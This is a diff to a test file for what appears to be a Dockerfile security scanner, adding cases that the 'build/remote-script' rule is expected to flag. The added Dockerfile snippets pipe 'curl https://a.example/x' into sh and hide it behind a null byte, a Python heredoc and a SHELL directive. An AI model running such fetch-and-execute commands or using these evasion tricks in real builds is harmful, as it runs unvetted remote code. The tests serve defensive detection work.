@@ -57,6 +57,18 @@ HITS: dict[str, tuple[str, set[Found]]] = {
         {("build/remote-script", 2, "medium")},
     ),
     "left to others": (HEAD + "ONBUILD RUN curl https://a.example/x | sh\n", {("build/remote-script", 2, "medium")}),
+    "behind a byte that is no text": (
+        HEAD + "# \0\nRUN curl https://a.example/x | sh\n",
+        {("build/remote-script", 3, "medium")},
+    ),
+    "a program hands it on": (
+        HEAD + 'RUN python3 <<EOF\nimport os\nos.system("curl https://a.example/x | sh")\nEOF\n',
+        {("build/remote-script", 2, "medium")},
+    ),
+    "every RUN begins with it": (
+        HEAD + 'SHELL ["/bin/sh", "-c", "curl https://a.example/x | sh; true"]\nRUN true\n',
+        {("build/remote-script", 2, "medium")},
+    ),
     # ---- build/tunnel-tool
     "apt": (
         HEAD
